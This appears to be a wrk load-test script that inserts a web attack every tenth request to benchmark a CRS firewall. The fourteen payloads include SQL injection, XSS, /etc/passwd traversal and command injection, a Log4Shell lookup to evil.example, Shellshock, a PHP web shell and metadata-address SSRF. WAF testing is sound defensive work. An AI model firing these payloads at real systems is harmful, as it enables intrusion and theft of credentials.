-- The varied mix with an attack in every tenth place. Attacks of fourteen kinds take turns; some stand in headers, cookies, forms and JSON.
-- Each of them reaches the threshold of CRS at paranoia 1, so that a tenth of all requests is to be refused, no more and no less.
dofile(debug.getinfo(1, "S").source:match("^@(.*/)") .. "mix-varied.lua")

local function with(name, value, content_type)
  local headers = browser_headers(content_type)
  headers[name] = value
  return headers
end
local function get(target, headers) return wrk.format("GET", target, headers or browser_headers()) end
local function post(target, content_type, body) return wrk.format("POST", target, browser_headers(content_type), body) end

local attacks = {
  function() return get("/products?id=@@@@@@@@'+UNION+SELECT+name,password+FROM+users--+") end,
  function() return post("/api/login", JSON, [[{"user":"admin@@@@@@@@' OR '1'='1' -- ","password":"x"}]]) end,
  function() return get("/search?q=<script>alert(%22@@@@@@@@%22)</script>") end,
  function() return post("/account/profile", FORM, "city=%3Cimg+src%3Dx+onerror%3Dalert%28%22@@@@@@@@%22%29%3E&newsletter=yes") end,
  function() return get("/download?file=../../../../@@@@@@@@/../../etc/passwd") end,
  function() return post("/tools/ping", FORM, "host=10.0.0.1%3Bcat+%2Fetc%2Fpasswd+@@@@@@@@") end,
  function() return get("/?from=@@@@@@@@", with("User-Agent", "${jndi:ldap://evil.example/@@@@@@@@}")) end,
  function() return get("/cgi-bin/status?v=@@@@@@@@", with("Referer", "() { :; }; /bin/bash -c 'id; echo @@@@@@@@'")) end,
  function() return post("/api/messages", JSON, [[{"text":"<?php system($_GET['c@@@@@@@@']); ?>"}]]) end,
  function() return get("/?from=@@@@@@@@", with("User-Agent", "sqlmap/1.8.@@@@@@@@#stable (https://sqlmap.org)")) end,
  function() return get("/?from=@@@@@@@@", with("Cookie", "sid=@@@@@@@@' OR 1=1 -- ; theme=dark")) end,
  function() return post("/api/messages", JSON, [[{"text":"require('child_process').exec('id @@@@@@@@')"}]]) end,
  function() return get("/fetch?url=http://169.254.169.254/latest/meta-data/@@@@@@@@") end,
  function() return post("/api/import", JSON, [[{"text":"O:8:\"stdClass\":1:{s:4:\"name\";s:8:\"@@@@@@@@\";}"}]]) end,
}

local browsing, turn = prepared, 0
function prepared(n)
  if n % 10 ~= 0 then return browsing(n) end
  turn = turn % #attacks + 1
  return attacks[turn]()
end
